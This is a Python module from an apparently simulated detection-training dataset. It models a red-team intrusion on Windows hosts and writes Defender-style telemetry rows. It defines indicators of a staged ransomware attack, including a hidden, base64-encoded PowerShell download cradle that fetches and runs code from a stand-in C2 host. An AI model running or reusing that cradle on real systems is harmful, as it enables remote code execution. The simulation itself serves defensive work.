"""What the red-team exercise of :mod:`.seed_intrusion` is made of: its indicators, its timeline
and a small process model that writes rows the way the sensor reports them.

:class:`Host` stands for one device; :meth:`Host.start` writes a ``ProcessCreated`` row whose
InitiatingProcess* columns (and InitiatingProcessParent*) come from the parent :class:`Run`, and
the other methods write the network, file, registry, DeviceEvents, image-load and logon rows a
running process causes. Windows binaries carry the same hashes as in the background data
(``benign_hashes``), the tools the operators bring their own (:func:`tool_hashes`).
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from .identities import display_name, object_id, user_sid
from .seed_common import SYSTEM_SID, Writer, benign_hashes
from .story import file_hashes

__all__ = ["INTRUSION_BACKDOOR_ACCOUNT", "INTRUSION_BACKDOOR_LOCAL_ACCOUNT", "INTRUSION_C2_DOMAIN",
           "INTRUSION_C2_IP", "INTRUSION_CRADLE", "INTRUSION_EXFIL_DOMAIN", "INTRUSION_EXFIL_IP",
           "INTRUSION_IMPLANT", "INTRUSION_LURE", "INTRUSION_LURE_URL", "INTRUSION_NOTE", "INTRUSION_POWERSHELL",
           "INTRUSION_RANSOM_EXTENSION", "INTRUSION_ENCRYPTOR", "INTRUSION_RUN_VALUE", "INTRUSION_SCT_URL",
           "INTRUSION_SERVICE", "INTRUSION_TASK", "INTRUSION_TECHNIQUES", "INTRUSION_TOOL_DIR", "INTRUSION_WMI_NAME",
           "SPAN_HOURS", "STEPS", "SYSTEM", "Host", "Plan", "Run", "Who", "tool_hashes"]

INTRUSION_C2_DOMAIN = "cdn-telemetry-sync.example"
INTRUSION_C2_IP = "198.51.100.77"
INTRUSION_EXFIL_DOMAIN = "g.api.mega.co.nz"
INTRUSION_EXFIL_IP = "203.0.113.180"
INTRUSION_LURE = "Q3_Bonus_Schedule.xlsm"
INTRUSION_LURE_URL = f"https://{INTRUSION_C2_DOMAIN}/share/{INTRUSION_LURE}"
INTRUSION_SCT_URL = f"http://{INTRUSION_C2_DOMAIN}/e/bonus.sct"
INTRUSION_TOOL_DIR = r"C:\ProgramData\SyncTelemetry"
INTRUSION_IMPLANT = "svchost.exe"  # in INTRUSION_TOOL_DIR, not System32
INTRUSION_ENCRYPTOR = "winupd.exe"
INTRUSION_RUN_VALUE = "TelemetrySync"
INTRUSION_TASK = r"\Microsoft\Windows\Telemetry\SyncTelemetry"
INTRUSION_SERVICE = "TelemetrySyncSvc"
INTRUSION_WMI_NAME = "TelemetrySync"
INTRUSION_BACKDOOR_ACCOUNT = "svc_sync"  # a domain account, made a Domain Admin
INTRUSION_BACKDOOR_LOCAL_ACCOUNT = "adminstrator"  # a local administrator on the file server
INTRUSION_RANSOM_EXTENSION = ".r3dt3am"
INTRUSION_NOTE = "README-RECOVER-FILES.txt"
#: The download cradle the beacon runs, as PowerShell reads it once decoded.
INTRUSION_CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{INTRUSION_C2_DOMAIN}/a')"
INTRUSION_POWERSHELL = ("powershell.exe -nop -w hidden -enc "
                        + base64.b64encode(INTRUSION_CRADLE.encode("utf-16-le")).decode())
INTRUSION_TECHNIQUES = ["T1204.002", "T1218.010", "T1059.001", "T1027", "T1105", "T1033", "T1087.002", "T1069.002",
                        "T1482", "T1016", "T1049", "T1082", "T1057", "T1135", "T1547.001", "T1053.005", "T1543.003",
                        "T1546.003", "T1218.005", "T1218.011", "T1548.002", "T1003.001", "T1003.002", "T1003.003",
                        "T1021.002", "T1569.002", "T1047", "T1021.006", "T1021.001", "T1136.001", "T1136.002",
                        "T1098", "T1562.001", "T1070.001", "T1070", "T1490", "T1489", "T1560.001", "T1567.002",
                        "T1486"]

#: Hours from the exercise's start (``SPAN_HOURS`` before ``now``) to each phase.
STEPS = {"initial_access": 0.0, "discovery": 0.5, "ad_recon": 1.0, "persistence": 2.0, "relogon": 21.0,
         "credential_access": 22.0, "smb_sweep": 23.0, "lateral_movement": 23.5, "domain_persistence": 24.5,
         "ntds": 25.0, "staging": 44.0, "exfiltration": 44.5, "defense_evasion": 66.0, "impact": 66.5}
SPAN_HOURS = 68


def tool_hashes(file: str) -> dict[str, str]:
    """The hashes of a file the operators brought (their tools, implant, encryptor)."""
    return file_hashes(f"soar-sim:intrusion:{file}")


@dataclass(frozen=True)
class Who:
    """An account: a domain user (with UPN), a local one or SYSTEM."""

    name: str
    domain: str
    sid: str
    upn: str = ""

    @classmethod
    def domain_user(cls, name: str, domain: str) -> "Who":
        return cls(name, domain.split(".")[0], user_sid(name), f"{name}@{domain}".lower())

    @property
    def object_id(self) -> str:
        return object_id(self.upn) if self.upn else ""

    @property
    def system(self) -> bool:
        return self.sid == SYSTEM_SID


SYSTEM = Who("system", "nt authority", SYSTEM_SID)


@dataclass(frozen=True)
class Run:
    """A running process: what its InitiatingProcess* columns say when it acts."""

    file: str
    folder: str
    command: str
    pid: int
    created: datetime
    who: Who
    parent: "Run | None" = None
    hashes: dict = field(default_factory=dict)
    company: str = "Microsoft Corporation"
    integrity: str = "Medium"
    logon_id: int = 0
    remote: tuple[str, str] | None = None  # (device, IP) of the Remote Desktop client whose session it runs in

    @property
    def path(self) -> str:
        return f"{self.folder}\\{self.file}"

    @property
    def elevation(self) -> str:
        return {"High": "TokenElevationTypeFull", "Medium": "TokenElevationTypeLimited"}.get(
            self.integrity, "TokenElevationTypeDefault")

    def columns(self) -> dict[str, Any]:
        w = self.who
        cols = {f"InitiatingProcess{k}": v for k, v in self.hashes.items()}
        cols.update(InitiatingProcessFileName=self.file, InitiatingProcessFolderPath=self.path,
                    InitiatingProcessCommandLine=self.command, InitiatingProcessId=self.pid,
                    InitiatingProcessCreationTime=self.created, InitiatingProcessAccountName=w.name,
                    InitiatingProcessAccountDomain=w.domain, InitiatingProcessAccountSid=w.sid,
                    InitiatingProcessAccountUpn=w.upn, InitiatingProcessAccountObjectId=w.object_id,
                    InitiatingProcessIntegrityLevel=self.integrity, InitiatingProcessTokenElevation=self.elevation,
                    InitiatingProcessVersionInfoCompanyName=self.company,
                    InitiatingProcessVersionInfoOriginalFileName=self.file if self.company else "",
                    InitiatingProcessLogonId=self.logon_id)
        if self.remote is not None:
            cols.update(IsInitiatingProcessRemoteSession=True, InitiatingProcessRemoteSessionDeviceName=self.remote[0],
                        InitiatingProcessRemoteSessionIP=self.remote[1])
        if self.parent is not None:
            cols.update(InitiatingProcessParentFileName=self.parent.file, InitiatingProcessParentId=self.parent.pid,
                        InitiatingProcessParentCreationTime=self.parent.created)
        return cols


class Host:
    """Writes one device's rows; ``rng`` draws process ids and ports."""

    def __init__(self, w: Writer, device: dict, rng: random.Random) -> None:
        self.w, self.d, self.rng = w, device, rng
        self._pids: set[int] = set()

    @property
    def name(self) -> str:
        return self.d["name"]

    @property
    def short(self) -> str:
        return self.d["name"].split(".")[0]

    @property
    def ip(self) -> str:
        return self.d["ip"]

    def pid(self) -> int:
        """A process id no other process of the exercise has on this device."""
        pid = self.rng.randrange(1000, 30000, 4)
        while pid in self._pids:
            pid = self.rng.randrange(1000, 30000, 4)
        self._pids.add(pid)
        return pid

    def running(self, file: str, folder: str, command: str, created: datetime, who: Who = SYSTEM,
                parent: Run | None = None, *, integrity: str | None = None, remote: "Host | None" = None) -> Run:
        """A process that was already running (no row of its own); ``remote``: the Remote Desktop
        client whose session it runs in."""
        return Run(file, folder, command, self.pid(), created, who, parent, benign_hashes(file),
                   integrity=integrity or ("System" if who.system else "Medium"),
                   logon_id=999 if who.system else self.rng.randrange(100_000, 999_999),
                   remote=(remote.short.upper(), remote.ip) if remote else None)

    def start(self, parent: Run, at: datetime, file: str, folder: str, command: str, *, who: Who | None = None,
              integrity: str | None = None, tool: bool = False, company: str | None = None) -> Run:
        """``parent`` starts ``file``: its ProcessCreated row; the new process."""
        who = who or parent.who
        hashes = tool_hashes(file) if tool else benign_hashes(file)
        company = ("" if tool else "Microsoft Corporation") if company is None else company
        run = Run(file, folder, command, self.pid(), at, who, parent, hashes, company,
                  integrity or parent.integrity, parent.logon_id if who == parent.who else self.rng.randrange(
                      100_000, 999_999), parent.remote)
        session = {"IsProcessRemoteSession": True, "ProcessRemoteSessionDeviceName": run.remote[0],
                   "ProcessRemoteSessionIP": run.remote[1]} if run.remote else {}
        self.w.add_known("DeviceProcessEvents", at, self.d, ActionType="ProcessCreated", FileName=file,
                         FolderPath=run.path, **hashes, FileSize=self.rng.randrange(30_000, 2_500_000),
                         ProcessVersionInfoCompanyName=company,
                         ProcessVersionInfoOriginalFileName=file if company else "",
                         ProcessId=run.pid, ProcessCommandLine=command, ProcessCreationTime=at,
                         ProcessIntegrityLevel=run.integrity, ProcessTokenElevation=run.elevation,
                         AccountName=who.name, AccountDomain=who.domain, AccountSid=who.sid, AccountUpn=who.upn,
                         AccountObjectId=who.object_id, LogonId=run.logon_id, **session, **parent.columns())
        return run

    def connect(self, run: Run, at: datetime, ip: str, port: int, url: str = "", *,
                action: str = "ConnectionSuccess", public: bool = True) -> None:
        self.w.add_known("DeviceNetworkEvents", at, self.d, ActionType=action, RemoteIP=ip, RemotePort=port,
                         RemoteUrl=url, LocalIP=self.ip, LocalPort=self.rng.randrange(49152, 65535), Protocol="Tcp",
                         LocalIPType="Private", RemoteIPType="Public" if public else "Private", **run.columns())

    def accept(self, run: Run, at: datetime, source: "Host", port: int) -> None:
        """An inbound connection from ``source`` to ``port`` here, accepted by ``run``."""
        self.w.add_known("DeviceNetworkEvents", at, self.d, ActionType="InboundConnectionAccepted", RemoteIP=source.ip,
                         RemotePort=self.rng.randrange(49152, 65535), LocalIP=self.ip, LocalPort=port, Protocol="Tcp",
                         LocalIPType="Private", RemoteIPType="Private", **run.columns())

    def file(self, run: Run, at: datetime, action: str, path: str, *, hashes: dict | None = None, size: int = 0,
             **extra: Any) -> None:
        folder, name = path.rsplit("\\", 1)
        self.w.add_known("DeviceFileEvents", at, self.d, ActionType=action, FileName=name, FolderPath=path,
                         **(hashes if hashes is not None else file_hashes(f"soar-sim:intrusion:{self.name}:{path}")),
                         FileSize=size or self.rng.randrange(2_000, 900_000), **run.columns(), **extra)

    def registry(self, run: Run, at: datetime, key: str, name: str = "", data: str = "", kind: str = "String", *,
                 action: str = "RegistryValueSet") -> None:
        self.w.add_known("DeviceRegistryEvents", at, self.d, ActionType=action, RegistryKey=key,
                         RegistryValueName=name, RegistryValueData=data, RegistryValueType=kind if name else "",
                         **run.columns())

    def event(self, run: Run, at: datetime, action: str, fields: dict | None = None, **columns: Any) -> None:
        self.w.add_known("DeviceEvents", at, self.d, ActionType=action, AdditionalFields=fields, **run.columns(),
                         **columns)

    def load(self, run: Run, at: datetime, path: str) -> None:
        name = path.rsplit("\\", 1)[1]
        self.w.add_known("DeviceImageLoadEvents", at, self.d, ActionType="ImageLoaded", FileName=name,
                         FolderPath=path, **benign_hashes(name), FileSize=self.rng.randrange(80_000, 3_000_000),
                         **run.columns())

    def logon(self, at: datetime, who: Who, logon_type: str, *, source: "Host | None" = None,
              protocol: str = "Kerberos", admin: bool = True, action: str = "LogonSuccess") -> None:
        lsass = Run("lsass.exe", r"C:\Windows\System32", "lsass.exe", 700 + len(self.short), at - timedelta(days=3),
                    SYSTEM, hashes=benign_hashes("lsass.exe"), integrity="System")
        remote = {"RemoteIP": source.ip, "RemoteIPType": "Private", "RemoteDeviceName": source.short,
                  "RemotePort": self.rng.randrange(49152, 65535)} if source else {"RemoteIP": "", "RemoteIPType": ""}
        self.w.add_known("DeviceLogonEvents", at, self.d, ActionType=action, LogonType=logon_type,
                         AccountName=who.name, AccountDomain=who.domain, AccountSid=who.sid, Protocol=protocol,
                         IsLocalAdmin=admin, LogonId=self.rng.randrange(100_000, 999_999), **remote, **lsass.columns())


@dataclass
class Plan:
    """Who and where: the beachhead workstation and its user, the domain controller, the file
    server, the administrator whose credentials are stolen, and when the exercise starts."""

    start: datetime
    user: Who
    admin: Who
    domain: str  # contoso.com
    beachhead: Host
    dc: Host
    fs: Host
    devices: list[dict]  # every device of the tenant (the SMB sweep's targets)

    def at(self, step: str, minutes: float = 0, seconds: float = 0) -> datetime:
        return self.start + timedelta(hours=STEPS[step], minutes=minutes, seconds=seconds)

    def _identity(self, who: Who, source: Host) -> dict[str, Any]:
        return {"Application": "Active Directory", "DestinationDeviceName": self.dc.name,
                "DestinationIPAddress": self.dc.ip, "DeviceName": source.name, "IPAddress": source.ip,
                "Port": source.rng.randrange(49152, 65535), "AccountName": who.name, "AccountDomain": self.domain,
                "AccountUpn": who.upn, "AccountSid": who.sid, "AccountObjectId": who.object_id,
                "AccountDisplayName": display_name(who.name)}

    def query(self, at: datetime, source: Host, action: str, query_type: str, target: str, query: str,
              protocol: str, port: int, who: Who | None = None) -> None:
        """What the domain controller's Defender for Identity sensor records of a query from ``source``."""
        self.dc.w.add_known("IdentityQueryEvents", at, ActionType=action, QueryType=query_type, QueryTarget=target,
                            Query=query, Protocol=protocol, DestinationPort=port,
                            **self._identity(who or self.user, source))

    def signed_in(self, at: datetime, source: Host, target: Host, who: Who, protocol: str = "Kerberos") -> None:
        """A logon of ``who`` from ``source`` to ``target`` as the domain controller sees it."""
        self.dc.w.add_known("IdentityLogonEvents", at, ActionType="LogonSuccess", LogonType="Resource access",
                            Protocol=protocol, TargetDeviceName=target.name, DeviceType="Desktop",
                            OSPlatform=source.d["os"], AdditionalFields={}, **self._identity(who, source))

    def directory(self, at: datetime, source: Host, action: str, fields: dict, **columns: Any) -> None:
        self.dc.w.add_known("IdentityDirectoryEvents", at, ActionType=action, AdditionalFields=fields,
                            **self._identity(self.admin, source), **columns)
